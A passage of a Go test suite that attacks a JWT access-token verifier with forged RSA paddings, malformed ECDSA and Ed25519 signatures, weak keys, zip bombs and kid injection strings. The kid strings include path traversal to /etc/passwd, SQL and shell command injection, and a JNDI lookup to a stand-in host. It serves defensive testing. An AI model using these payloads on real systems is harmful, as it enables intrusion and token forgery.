		attacks = append(attacks, attack{"PKCS#1 with " + name.String(), withSignature(good, signature), accesstoken.ErrSignature})
	}
	run(t, append(attacks, encodedMessages(good, private)...), k.all()...)
}

// encodedMessages returns a token with paddings that only the owner of the key
// can make, but that a lax parser takes from anybody, where the exponent is
// small (Bleichenbacher's forgery of 2006, BERserk).
func encodedMessages(token string, private *rsa.PrivateKey) []attack {
	digest := sha256.Sum256([]byte(token[:strings.LastIndexByte(token, '.')]))
	info := []byte("\x30\x31\x30\x0d\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x05\x00\x04\x20")
	encode := func(kind byte, padding int, fill byte, end ...[]byte) []byte {
		message := append([]byte{0, kind}, bytes.Repeat([]byte{fill}, padding)...)
		return slices.Concat(message, []byte{0}, slices.Concat(end...))
	}
	full := private.Size() - 3 - len(info) - len(digest)
	apply := func(message []byte) []byte { // the private key to any number
		m := new(big.Int).SetBytes(message)
		return m.Exp(m, private.D, private.N).FillBytes(make([]byte, private.Size()))
	}
	right := apply(encode(1, full, 0xff, info, digest[:]))
	s := new(big.Int).SetBytes(right)
	attacks := []attack{{"padding as it should be", withSignature(token, right), nil}}
	for name, signature := range map[string][]byte{
		"short padding, garbage behind":    apply(encode(1, 8, 0xff, info, digest[:], make([]byte, full-8))),
		"short padding, garbage before":    apply(encode(1, 8, 0xff, make([]byte, full-8), info, digest[:])),
		"garbage in the parameters":        apply(encode(1, full-2, 0xff, []byte("\x30\x33\x30\x0f\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x04\x02AA\x04\x20"), digest[:])),
		"no parameters":                    apply(encode(1, full+2, 0xff, []byte("\x30\x2f\x30\x0b\x06\x09\x60\x86\x48\x01\x65\x03\x04\x02\x01\x04\x20"), digest[:])),
		"long form of a length":            apply(encode(1, full-1, 0xff, []byte("\x30\x81\x31"), info[2:], digest[:])),
		"block type 0":                     apply(encode(0, full, 0xff, info, digest[:])),
		"block type 2":                     apply(encode(2, full, 0xff, info, digest[:])),
		"padding of zeros":                 apply(encode(1, full, 0, info, digest[:])),
		"bare digest":                      apply(encode(1, full+len(info), 0xff, digest[:])),
		"digest of SHA-1 in its place":     apply(encode(1, full, 0xff, []byte("\x30\x31\x30\x0d\x06\x09\x2b\x0e\x03\x02\x1a\x05\x00\x04\x20\x00\x00\x00\x00"), digest[:])),
		"the message itself, not signed":   encode(1, full, 0xff, info, digest[:]),
		"plus the modulus":                 new(big.Int).Add(s, private.N).Bytes(),
		"minus, that is to say its mirror": new(big.Int).Sub(private.N, s).FillBytes(make([]byte, private.Size())),
		"zero in front":                    append([]byte{0}, right...),
		"zero behind":                      append(slices.Clone(right), 0),
		"one byte short":                   right[1:],
		"one":                              big.NewInt(1).FillBytes(make([]byte, private.Size())),
		"modulus":                          private.N.Bytes(),
		"modulus less one":                 new(big.Int).Sub(private.N, big.NewInt(1)).Bytes(),
	} {
		attacks = append(attacks, attack{name, withSignature(token, signature), accesstoken.ErrSignature})
	}
	return attacks
}

// Also in TestSignatureForm, and Wycheproof 378 to 401.
func attackSignatureNumbers(t *testing.T, k attackKeys) {
	n := elliptic.P256().Params().N
	good := k.es.sign(t, k.es.header(), payload(t, nil))
	signature := signatureOf(t, good)
	r, s := new(big.Int).SetBytes(signature[:32]), new(big.Int).SetBytes(signature[32:])
	pair := func(r, s *big.Int) string {
		return withSignature(good, slices.Concat(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))))
	}
	zero, one, less := big.NewInt(0), big.NewInt(1), new(big.Int).Sub(n, big.NewInt(1))
	largest := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	more := new(big.Int).Add(n, one)
	p := elliptic.P256().Params().P
	var attacks []attack
	numbers := map[string]*big.Int{"0": zero, "1": one, "n-1": less, "n": n, "n+1": more, "p": p, "2^256-1": largest}
	for rName, a := range numbers {
		attacks = append(attacks,
			attack{"r=" + rName + ", s right", pair(a, s), accesstoken.ErrSignature},
			attack{"r right, s=" + rName, pair(r, a), accesstoken.ErrSignature})
		for sName, b := range numbers {
			attacks = append(attacks, attack{"r=" + rName + ", s=" + sName, pair(a, b), accesstoken.ErrSignature})
		}
	}
	der, err := asn1Signature(r, s)
	if err != nil {
		t.Fatal(err)
	}
	attacks = append(attacks,
		attack{"DER", withSignature(good, der), accesstoken.ErrSignature},
		attack{"DER in hexadecimal", withSignature(good, fmt.Appendf(nil, "%x", der)), accesstoken.ErrSignature},
		attack{"hexadecimal", withSignature(good, fmt.Appendf(nil, "%x", signature)), accesstoken.ErrSignature},
		attack{"96 bytes, as of P-384", withSignature(good, slices.Concat(make([]byte, 16), signature[:32], make([]byte, 16), signature[32:])), accesstoken.ErrSignature},
		attack{"little endian", withSignature(good, slices.Concat(reversed(signature[:32]), reversed(signature[32:]))), accesstoken.ErrSignature},
		attack{"r negated", pair(new(big.Int).Sub(n, r), s), accesstoken.ErrSignature},
		// ECDSA has two signatures wherever it has one, and RFC 7518 §3.4 allows both. So
		// a token is known by its jti, never by its text.
		attack{"s negated", pair(r, new(big.Int).Sub(n, s)), nil},
	)
	run(t, append(attacks, edwardsNumbers(t, k.ed)...), k.all()...)
}

// edwardsNumbers are the same for Ed25519, where S below the order of the group
// is required (RFC 8032 §5.1.7): without it, each signature has others.
func edwardsNumbers(t *testing.T, key issuerKey) []attack {
	good := key.sign(t, key.header(), payload(t, nil))
	signature := signatureOf(t, good)
	order, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	s := new(big.Int).SetBytes(reversed(signature[32:]))
	with := func(r []byte, s *big.Int) string {
		return withSignature(good, slices.Concat(r, reversed(s.FillBytes(make([]byte, 32)))))
	}
	identity := append([]byte{1}, make([]byte, 31)...)
	return []attack{
		{"Ed25519 as it should be", with(signature[:32], s), nil},
		{"Ed25519 S plus the order", with(signature[:32], new(big.Int).Add(s, order)), accesstoken.ErrSignature},
		{"Ed25519 S negated", with(signature[:32], new(big.Int).Sub(order, s)), accesstoken.ErrSignature},
		{"Ed25519 S zero", with(signature[:32], new(big.Int)), accesstoken.ErrSignature},
		{"Ed25519 S the order", with(signature[:32], order), accesstoken.ErrSignature},
		{"Ed25519 R the identity", with(identity, s), accesstoken.ErrSignature},
		{"Ed25519 R the identity, S zero", with(identity, new(big.Int)), accesstoken.ErrSignature},
		{"Ed25519 zeros", withSignature(good, make([]byte, 64)), accesstoken.ErrSignature},
		{"Ed25519 and 50 bytes, as of Ed448", withSignature(good, append(slices.Clone(signature), make([]byte, 50)...)), accesstoken.ErrSignature},
	}
}

func asn1Signature(r, s *big.Int) ([]byte, error) {
	integer := func(n *big.Int) []byte {
		b := n.Bytes()
		if b[0] >= 0x80 {
			b = append([]byte{0}, b...)
		}
		return append([]byte{2, byte(len(b))}, b...)
	}
	body := append(integer(r), integer(s)...)
	if len(body) > 127 {
		return nil, errors.New("too long")
	}
	return append([]byte{0x30, byte(len(body))}, body...), nil
}

func reversed(b []byte) []byte {
	c := slices.Clone(b)
	slices.Reverse(c)
	return c
}

// Also in TestParseJWKRefuses and, for what arrives in a key set, in
// verify.TestBadKeySets.
func attackWeakKeys(t *testing.T, k attackKeys) {
	t.Setenv("GODEBUG", "rsa1024min=0")
	n := rsaModulus(t, k.rs)
	bits := func(bits int) *big.Int { // an odd number of that size
		m := new(big.Int).SetBit(new(big.Int), bits-1, 1)
		return m.SetBit(m.Xor(m, new(big.Int).Rsh(n, uint(2048-bits/2))), 0, 1)
	}
	small, err := rsa.GenerateKey(rand.Reader, 1024)
	if err != nil {
		t.Fatal(err)
	}
	refused := map[string]string{
		"RSA 1024, a real key": rsaJWK(small.N, 65537), "RSA 512": rsaJWK(bits(512), 65537), "RSA 2047": rsaJWK(bits(2047), 65537),
		"RSA 4097": rsaJWK(bits(4097), 65537), "RSA e=1": rsaJWK(n, 1), "RSA e=2": rsaJWK(n, 2), "RSA e=0": rsaJWK(n, 0),
		"RSA e even": rsaJWK(n, 65538), "RSA n even": rsaJWK(new(big.Int).Add(n, big.NewInt(1)), 65537), "RSA n=1": rsaJWK(big.NewInt(1), 65537),
		"RSA n=0": rsaJWK(new(big.Int), 65537), "HMAC": `{"kty":"oct","k":"` + b64(strings.Repeat("k", 64)) + `","alg":"HS256"}`,
		"HMAC of nothing":     `{"kty":"oct","k":""}`,
		"a modulus beside k":  strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"k":"AAAA"}`,
		"a private exponent":  strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"d":"AAAA"}`,
		"for encryption":      strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"use":"enc"}`,
		"for signing only":    strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"key_ops":["sign"]}`,
		"for wrapping":        strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"key_ops":["wrapKey","deriveKey"]}`,
		"use and key_ops":     strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"use":"enc","key_ops":["verify"]}`,
		"for none":            strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"alg":"none"}`,
		"for HMAC":            strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"alg":"HS256"}`,
		"for PSS":             strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"alg":"PS256"}`,
		"for RSA encryption":  strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"alg":"RSA-OAEP"}`,
		"ROCA, Wycheproof 7":  rocaKey(t),
		"a power of 65537":    rsaJWK(powerOf65537(), 65537),
		"key_ops of nothing":  strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"key_ops":[]}`,
		"key_ops in one word": strings.TrimSuffix(rsaJWK(n, 65537), "}") + `,"key_ops":"verify"}`,
	}
	for name, text := range refused {
		if _, err := accesstoken.ParseJWK([]byte(text)); !errors.Is(err, accesstoken.ErrKey) {
			t.Errorf("%s: %v, want ErrKey", name, err)
		}
	}
	for _, name := range []string{"ROCA, Wycheproof 7", "a power of 65537"} {
		if _, err := accesstoken.ParseJWK([]byte(refused[name])); err == nil || !strings.Contains(err.Error(), "ROCA") {
			t.Errorf("%s: %v, and ROCA is not the reason", name, err)
		}
	}
	for name, text := range map[string]string{"RSA e=3": rsaJWK(n, 3), "RSA 2048": rsaJWK(bits(2048), 65537), "RSA 4096": rsaJWK(bits(4096), 65537)} {
		if _, err := accesstoken.ParseJWK([]byte(text)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// rocaKey is the key of Wycheproof's vector.
func rocaKey(t *testing.T) string {
	t.Helper()
	for _, group := range loadVectors(t, "json_web_key_test.json",
		"be983255bce26406f97020ec5458b33930a90d5f868e604fcd569c300aba2862", 26) {
		if group.Tests[0].ID == 7 {
			var set struct{ Keys []json.RawMessage }
			if err := json.Unmarshal(group.Public, &set); err != nil {
				t.Fatal(err)
			}
			return string(set.Keys[0])
		}
	}
	t.Fatal("the vector is gone")
	return ""
}

// powerOf65537 is one, of 2065 bits: what the faulty generator's moduli are, as
// far as small primes can tell.
func powerOf65537() *big.Int { return new(big.Int).Exp(big.NewInt(65537), big.NewInt(129), nil) }

// Also in TestParseJWKRefuses.
func attackCurves(t *testing.T, k attackKeys) {
	public := k.es.private.Public().(*ecdsa.PublicKey)
	point, err := public.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	x, y := new(big.Int).SetBytes(point[1:33]), new(big.Int).SetBytes(point[33:])
	p := elliptic.P256().Params().P
	coordinate := func(n *big.Int, size int) string {
		return base64.RawURLEncoding.EncodeToString(n.FillBytes(make([]byte, size)))
	}
	ec := func(crv, x, y string) string { return fmt.Sprintf(`{"kty":"EC","crv":%q,"x":%q,"y":%q}`, crv, x, y) }
	right, rightY := coordinate(x, 32), coordinate(y, 32)
	if _, err := accesstoken.ParseJWK([]byte(ec("P-256", right, rightY))); err != nil {
		t.Fatalf("the key itself: %v", err)
	}
	one := big.NewInt(1)
	for name, text := range map[string]string{
		"x off by one": ec("P-256", coordinate(new(big.Int).Xor(x, one), 32), rightY), "y off by one": ec("P-256", right, coordinate(new(big.Int).Xor(y, one), 32)),
		"swapped": ec("P-256", rightY, right), "zeros": ec("P-256", coordinate(new(big.Int), 32), coordinate(new(big.Int), 32)),
		"x is p": ec("P-256", coordinate(p, 32), rightY), "y is p": ec("P-256", right, coordinate(p, 32)),
		"y plus p": ec("P-256", right, coordinate(new(big.Int).Add(y, p), 33)), "33 bytes": ec("P-256", coordinate(x, 33), coordinate(y, 33)),
		"no y": fmt.Sprintf(`{"kty":"EC","crv":"P-256","x":%q}`, right), "no x": fmt.Sprintf(`{"kty":"EC","crv":"P-256","y":%q}`, rightY),
		"no crv": fmt.Sprintf(`{"kty":"EC","x":%q,"y":%q}`, right, rightY), "y empty": ec("P-256", right, ""),
		"compressed":     ec("P-256", base64.RawURLEncoding.EncodeToString(append([]byte{2}, point[1:33]...)), ""),
		"whole point":    ec("P-256", base64.RawURLEncoding.EncodeToString(point), rightY),
		"p-256":          ec("p-256", right, rightY),
		"secp256r1":      ec("secp256r1", right, rightY),
		"secp256k1":      ec("secp256k1", right, rightY),
		"P-384":          ec("P-384", right, rightY),
		"P-521":          ec("P-521", right, rightY),
		"EC of Ed25519":  ec("Ed25519", right, rightY),
		"OKP of P-256":   fmt.Sprintf(`{"kty":"OKP","crv":"P-256","x":%q,"y":%q}`, right, rightY),
		"OKP of X25519":  fmt.Sprintf(`{"kty":"OKP","crv":"X25519","x":%q}`, right),
		"OKP of Ed448":   fmt.Sprintf(`{"kty":"OKP","crv":"Ed448","x":%q}`, right),
		"Ed25519, short": fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","x":%q}`, right[:42]),
		"Ed25519, long":  fmt.Sprintf(`{"kty":"OKP","crv":"Ed25519","x":%q}`, coordinate(x, 33)),
		"named ES384":    strings.TrimSuffix(ec("P-256", right, rightY), "}") + `,"alg":"ES384"}`,
		"named ES256K":   strings.TrimSuffix(ec("P-256", right, rightY), "}") + `,"alg":"ES256K"}`,
		"named EdDSA":    strings.TrimSuffix(ec("P-256", right, rightY), "}") + `,"alg":"EdDSA"}`,
	} {
		if _, err := accesstoken.ParseJWK([]byte(text)); !errors.Is(err, accesstoken.ErrKey) {
			t.Errorf("%s: %v, want ErrKey", name, err)
		}
	}
	// A signature from another curve, under the name of a P-256 key.
	p384, err := ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	for alg, want := range map[string]error{"ES256": accesstoken.ErrSignature, "ES384": accesstoken.ErrMalformed} {
		signed := b64(k.es.head("alg", quote(alg))) + "." + b64(payload(t, nil))
		signature, err := jwt.SigningMethodES384.Sign(signed, p384)
		if err != nil {
			t.Fatal(err)
		}
		run(t, []attack{{"P-384 called " + alg, signed + "." + base64.RawURLEncoding.EncodeToString(signature), want}}, k.all()...)
	}
}

// Also in TestHeaderExtras. A kid is an opaque name: it arrives at the look-up as
// it was sent, and over HTTP it is good for a 401 that says nothing about it.
func attackKeyID(t *testing.T, k attackKeys) {
	web := newAPI(t, k.es)
	for _, kid := range []string{
		"../../../../../../dev/null", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///proc/self/environ", "https://evil.example/jwks.json",
		"' OR '1'='1", "x' UNION SELECT 'key';--", `"; DROP TABLE keys;--`, "\x00", k.es.KeyID() + "\x00", k.es.KeyID() + " ", " " + k.es.KeyID(),
		"| /bin/sleep 10 |", "$(reboot)", "`id`", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "%s%s%n", "\r\nSet-Cookie: a=b", "\x1b[31m",
		"__proto__", "constructor", "*", "null", "0", "-1", "💣", "\u202ekid", strings.ToLower(k.es.KeyID()), k.es.KeyID()[:42], strings.Repeat("k", 10_000),
	} {
		for _, key := range k.all() {
			var asked []string
			token := key.sign(t, key.head("kid", quote(kid)), payload(t, nil))
			_, err := accesstoken.Verify(token, func(id string) (accesstoken.PublicKey, bool) {
				asked = append(asked, id)
				return lookup(k.all()...)(id)
			}, expectation())
			if !errors.Is(err, accesstoken.ErrUnknownKey) || !slices.Equal(asked, []string{kid}) {
				t.Errorf("%s, kid %.50q: %v, asked for %.80q", key.Algorithm(), kid, err, asked)
			}
		}
		web.refuses(t, k.es.sign(t, k.es.head("kid", quote(kid)), payload(t, nil)), kid)
	}
	for _, kid := range []string{
		"", `""`, `null`, `true`, `0`, `1e400`, `[]`, `["` + k.es.KeyID() + `"]`, `{"` + k.es.KeyID() + `":1}`, `"\ud800"`, quote(strings.Repeat("k", 1<<20)),
	} {
		for _, key := range k.all() {
			token := key.sign(t, key.head("kid", kid), payload(t, nil))
			_, err := accesstoken.Verify(token, func(id string) (accesstoken.PublicKey, bool) {
				t.Errorf("%s, kid %.50s: asked for %.80q", key.Algorithm(), kid, id)
				return key.Public(), true
			}, expectation())
			if !errors.Is(err, accesstoken.ErrMalformed) {
				t.Errorf("%s, kid %.50s: %v, want ErrMalformed", key.Algorithm(), kid, err)
			}
		}
		web.refuses(t, k.es.sign(t, k.es.head("kid", kid), payload(t, nil)), kid)
	}
	web.accepts(t, k.es.sign(t, k.es.header(), payload(t, nil)))
}

// api is a handler behind verify.Verifier. Its issuer counts how often it is
// asked for keys. The clock stands still.
type api struct {
	handler http.Handler
	keys    []byte
	fetches atomic.Int64
}

func newAPI(t *testing.T, key issuerKey) *api {
	t.Helper()
	jwk, err := key.Public().MarshalJWK()
	if err != nil {
		t.Fatal(err)
	}
	a := &api{keys: fmt.Appendf(nil, `{"keys":[%s]}`, jwk)}
	verifier, err := verify.New(verify.Config{
		Issuer: issuer, Audience: audience, HTTPClient: &http.Client{Transport: a}, Now: start,
	})
	if err != nil {
		t.Fatal(err)
	}
	a.handler = verifier.RequireAuth(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNoContent) }))
	return a
}

// RoundTrip answers as the issuer.
func (a *api) RoundTrip(*http.Request) (*http.Response, error) {
	a.fetches.Add(1)
	rec := httptest.NewRecorder()
	_, _ = rec.Write(a.keys)
	return rec.Result(), nil
}

func (a *api) send(token string) *httptest.ResponseRecorder {
	r := httptest.NewRequest(http.MethodGet, "/", nil)
	r.Header.Set("Authorization", "Bearer "+token)
	rec := httptest.NewRecorder()
	a.handler.ServeHTTP(rec, r)
	return rec
}

func (a *api) accepts(t *testing.T, token string) {
	t.Helper()
	if rec := a.send(token); rec.Code != http.StatusNoContent {
		t.Errorf("%d %s, want 204", rec.Code, rec.Body)
	}
}

// refuses wants a 401, and nothing in it of the text that came with the token.
func (a *api) refuses(t *testing.T, token, text string) {
	t.Helper()
	rec := a.send(token)
	if rec.Code != http.StatusUnauthorized || !strings.Contains(rec.Header().Get("WWW-Authenticate"), `error="invalid_token"`) {
		t.Errorf("%.50q: %d %q, want 401 and invalid_token", text, rec.Code, rec.Header().Get("WWW-Authenticate"))
	}
	if answer := fmt.Sprint(rec.Header(), rec.Body); len(text) > 8 && strings.Contains(answer, text) {
		t.Errorf("%.50q stands in the answer %s", text, answer)
	}
}

// The heart of this item are TestUnknownKeyFlood and TestFloodBlocksNobodyElse in
// package verify: how often the issuer is asked over time, and who waits.
func attackKeyFetches(t *testing.T, k attackKeys) {
	// What is malformed makes nobody ask, not even when no key is known yet.
	web := newAPI(t, k.es)
	for _, token := range []string{
		"x", "a.b.c", k.es.sign(t, k.es.head("alg", `"none"`), "{}"), k.es.sign(t, k.es.head("typ", `"JWT"`), "{}"), k.es.sign(t, k.es.head("kid", ""), "{}"),
		k.es.sign(t, k.es.extended(`"crit":["x"]`), "{}"), strings.Repeat("A", accesstoken.MaxSize+1),
	} {
		web.refuses(t, token, token)
	}
	if n := web.fetches.Load(); n != 0 {
		t.Errorf("malformed tokens: %d fetches", n)
	}
	// However many kids are named at once, one fetch answers for all.
	var wg sync.WaitGroup
	for i := range 200 {
		wg.Go(func() {
			kid := fmt.Sprintf("unknown-key-%d", i)
			web.refuses(t, b64(k.es.head("kid", quote(kid)))+".e30.AAAA", kid)
		})
	}
	wg.Wait()
	web.accepts(t, k.es.sign(t, k.es.header(), payload(t, nil)))
	if n := web.fetches.Load(); n != 1 {
		t.Errorf("unknown keys: %d fetches, want 1", n)
	}
	// A token costs one look-up at most, whatever becomes of it.
	for _, key := range k.all() {
		calls := 0
		token := withSignature(key.sign(t, key.header(), payload(t, nil)), nil)
		_, err := accesstoken.Verify(token, func(id string) (accesstoken.PublicKey, bool) {
			calls++
			return lookup(key)(id)
		}, expectation())
		if !errors.Is(err, accesstoken.ErrSignature) || calls != 1 {
			t.Errorf("%s: %v after %d look-ups", key.Algorithm(), err, calls)
		}
	}
}

// Also in TestForm and TestSizeLimitIsShared.
func attackSize(t *testing.T, k attackKeys) {
	plain := payload(t, nil)
	in := func(value string) string { return plain[:len(plain)-1] + `,"x":` + value + "}" }
	bomb := deflated(t, in(quote(strings.Repeat("A", 10<<20))))
	k.each(t, func(key issuerKey) []attack {
		nested := func(n int) string { return strings.Repeat("[", n) + strings.Repeat("]", n) }
		objects := func(n int) string { return strings.Repeat(`{"a":`, n) + "1" + strings.Repeat("}", n) }
		var many strings.Builder
		for i := range 900 {
			fmt.Fprintf(&many, `,"%d":0`, i)
		}
		const depth = strictjson.MaxDepth - 1 // below the object itself
		return []attack{
			{"as large as allowed", sized(t, key, accesstoken.MaxSize), nil},
			{"one byte larger", sized(t, key, accesstoken.MaxSize+1), accesstoken.ErrMalformed},
			{"1 MB", sized(t, key, 1<<20), accesstoken.ErrMalformed},
			{"arrays as deep as allowed", key.sign(t, key.header(), in(nested(depth))), nil},
			{"arrays one deeper", key.sign(t, key.header(), in(nested(depth+1))), accesstoken.ErrClaims},
			{"arrays in thousands", key.sign(t, key.header(), in(nested(4000))), accesstoken.ErrClaims},
			{"arrays that never close", key.sign(t, key.header(), strings.Repeat("[", 10_000)), accesstoken.ErrClaims},
			{"objects one too deep", key.sign(t, key.header(), in(objects(depth+1))), accesstoken.ErrClaims},
			{"header as deep as allowed", key.sign(t, key.extended(`"x":`+nested(depth)), plain), nil},
			{"header one deeper", key.sign(t, key.extended(`"x":`+objects(depth+1)), plain), accesstoken.ErrMalformed},
			{"many members", key.sign(t, key.header(), plain[:len(plain)-1]+many.String()+"}"), nil},
			{"many members, the last twice", key.sign(t, key.header(), plain[:len(plain)-1]+many.String()+`,"899":0}`), accesstoken.ErrClaims},
			{"zip bomb of 10 MB that fits", key.sign(t, key.extended(`"zip":"DEF"`), bomb), accesstoken.ErrClaims},
			{"zip, and not compressed", key.sign(t, key.extended(`"zip":"DEF"`), plain), nil},
			{"PBES2", key.sign(t, key.head("alg", `"PBES2-HS256+A128KW","p2c":2147483647,"p2s":"AAAA"`), plain), accesstoken.ErrMalformed},
			{"RSA1_5", key.sign(t, key.head("alg", `"RSA1_5","enc":"A128CBC-HS256"`), plain), accesstoken.ErrMalformed},
			{"dir", key.sign(t, key.head("alg", `"dir","enc":"A256GCM"`), plain), accesstoken.ErrMalformed},
		}
	})
}

func deflated(t *testing.T, text string) string {
	t.Helper()
	var packed bytes.Buffer
	writer, err := flate.NewWriter(&packed, flate.BestCompression)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(writer, text); err != nil {
		t.Fatal(err)
	}
	if err := writer.Close(); err != nil {
		t.Fatal(err)
	}
	return packed.String()
}

// sized returns a token that is genuine and has exactly so many bytes.
func sized(t *testing.T, key issuerKey, size int) string {
	t.Helper()
	least := payload(t, nil)
	least = least[:len(least)-1] + `,"x":""}`
	// Base64 cannot have every length, but two segments together can.
	length := base64.RawURLEncoding.EncodedLen
	for header := range 3 {
		head := key.extended(`"x":"` + strings.Repeat("h", header) + `"`)
		for body := range size {
			if length(len(head))+1+length(len(least)+body)+1+signatureLength(key) == size {
				return key.sign(t, head, least[:len(least)-2]+strings.Repeat("b", body)+`"}`)
			}
		}
	}
	t.Fatalf("no token has %d bytes", size)
	return ""
}

func signatureLength(key issuerKey) int {
	if key.Algorithm() == accesstoken.RS256 {
		return base64.RawURLEncoding.EncodedLen(key.private.Public().(*rsa.PublicKey).Size())
	}
	return base64.RawURLEncoding.EncodedLen(64)
}

// Also in TestTokenKinds. Tokens of other kinds as access tokens, and the other
// way round at a real server.
func attackOtherTokens(t *testing.T, k attackKeys) {
	k.each(t, func(key issuerKey) []attack {
		with := func(typ string, claims map[string]any) string {
			return key.sign(t, key.head("typ", typ), payload(t, claims))
		}
		event := map[string]any{"http://schemas.openid.net/event/backchannel-logout": map[string]any{}}
		return []attack{
			{"ID token", with(`"JWT"`, map[string]any{"nonce": "n", "at_hash": "x"}), accesstoken.ErrMalformed},
			{"ID token without typ", with("", map[string]any{"nonce": "n"}), accesstoken.ErrMalformed},
			{"logout token", with(`"logout+jwt"`, map[string]any{"events": event}), accesstoken.ErrMalformed},
			{"security event", with(`"secevent+jwt"`, map[string]any{"events": event}), accesstoken.ErrMalformed},
			{"DPoP proof", with(`"dpop+jwt"`, map[string]any{"htm": "GET", "htu": audience}), accesstoken.ErrMalformed},
			{"DBSC proof", with(`"dbsc+jwt"`, nil), accesstoken.ErrMalformed},
			{"client assertion", with(`"client-authentication+jwt"`, map[string]any{"iss": "web", "sub": "web"}), accesstoken.ErrMalformed},
			{"request object", with(`"oauth-authz-req+jwt"`, nil), accesstoken.ErrMalformed},
			{"introspection response", with(`"token-introspection+jwt"`, nil), accesstoken.ErrMalformed},
			{"refresh token as a JWT", with(`"rt+jwt"`, nil), accesstoken.ErrMalformed},
			{"JWK set", key.sign(t, `{"keys":[]}`, payload(t, nil)), accesstoken.ErrMalformed},
			{"access token for us as a client", with(`"at+jwt"`, map[string]any{"aud": "web"}), accesstoken.ErrAudience},
			{"refresh token", innkeeper.RefreshTokenPrefix + strings.Repeat("A", 100), accesstoken.ErrMalformed},
		}
	})

	inn := innkeepertest.New(t, nil)
	inn.AddUser("ada")
	session := inn.SignIn("ada")
	var document []byte
	status, _ := call(t, http.MethodGet, inn.URL+"/auth/sessions", session.AccessToken, "", &document)
	if status != http.StatusOK {
		t.Fatalf("the access token: %d %s", status, document)
	}
	for _, a := range []struct{ name, method, path, bearer, body, code string }{
		{"refresh token at an API", http.MethodGet, "/auth/sessions", session.RefreshToken, "", "access_token_invalid"},
		{"access token at refresh", http.MethodPost, "/auth/refresh", "", `{"refresh_token":` + quote(session.AccessToken) + `}`, "refresh_token_invalid"},
		{"access token in the clothes of a refresh token", http.MethodPost, "/auth/refresh", "", `{"refresh_token":` + quote(innkeeper.RefreshTokenPrefix+session.AccessToken) + `}`, "refresh_token_invalid"},
	} {
		status, code := call(t, a.method, inn.URL+a.path, a.bearer, a.body, &document)
		if status != http.StatusUnauthorized || code != a.code {
			t.Errorf("%s: %d %s, want 401 and %s", a.name, status, document, a.code)
		}
	}
	inn.Refresh(session) // and none of this has harmed the session
}

// call sends a request and returns the status, and the code of a problem.
func call(t *testing.T, method, url, bearer, body string, document *[]byte) (int, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(t.Context(), method, url, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if bearer != "" {
		req.Header.Set("Authorization", "Bearer "+bearer)
	}
	if body != "" {
		req.Header.Set("Content-Type", "application/json")
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if *document, err = io.ReadAll(resp.Body); err != nil {
		t.Fatal(err)
	}
	var problem struct{ Code string }
	_ = json.Unmarshal(*document, &problem) // a good answer has none
	return resp.StatusCode, problem.Code
}

// An account is its issuer and its subject together. Neither is trimmed, folded or
// normalized, and no subject is given out twice.
func attackSubject(t *testing.T, k attackKeys) {
	subjects := []string{
		"01JAZ4T9W7", "01jaz4t9w7", " 01JAZ4T9W7", "01JAZ4T9W7 ", "01JAZ4T9W7\x00", "01JAZ4T9W7\n", "é", "e\u0301", "K", "\u212a", "ß", "ss", "\u202eroot",
	}
	seen := map[string]bool{}
	for _, sub := range subjects {
		for _, key := range k.all() {
			token := key.sign(t, key.header(), payload(t, map[string]any{"sub": sub, "username": "root", "email": "root@example.com"}))
			claims, err := accesstoken.Verify(token, lookup(key), expectation())
			if err != nil || claims.Subject != sub || claims.Issuer != issuer {
				t.Errorf("%s, %q: subject %q of %q, %v", key.Algorithm(), sub, claims.Subject, claims.Issuer, err)
			}
		}
		if seen[sub] {
			t.Errorf("%q is there twice", sub)
		}
		seen[sub] = true
	}
	var attacks []attack
	for _, value := range []string{`null`, `""`, `0`, `["01JAZ4T9W7"]`, `{"id":"01JAZ4T9W7"}`, `true`} {
		attacks = append(attacks, attack{"sub " + value, k.es.sign(t, k.es.header(), payload(t, map[string]any{"sub": raw(value)})), accesstoken.ErrClaims})
	}
	attacks = append(attacks, attack{"the same subject of another issuer",
		k.es.sign(t, k.es.header(), payload(t, map[string]any{"iss": "https://other.example.com"})), accesstoken.ErrIssuer})
	run(t, attacks, k.all()...)

	// Whoever takes a name that was given up is somebody else.
	inn := innkeepertest.New(t, nil)
	first := inn.AddUser("ada")
	old := members(t, inn.SignIn("ada").AccessToken)
	if err := inn.Authority.DeleteUser(t.Context(), first.ID, innkeeper.ActorOperator); err != nil {
		t.Fatal(err)
	}
	inn.AddUser("ada")
	present := members(t, inn.SignIn("ada").AccessToken)
	if string(old["username"]) != string(present["username"]) || string(old["sub"]) == string(present["sub"]) {
		t.Errorf("first %s %s, then %s %s", old["username"], old["sub"], present["username"], present["sub"])
	}
}

// members returns the claims of a token as they stand in it.
func members(t *testing.T, token string) map[string]json.RawMessage {
	t.Helper()
	text, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
	if err != nil {
		t.Fatal(err)
	}
	var claims map[string]json.RawMessage
	if err := json.Unmarshal(text, &claims); err != nil {
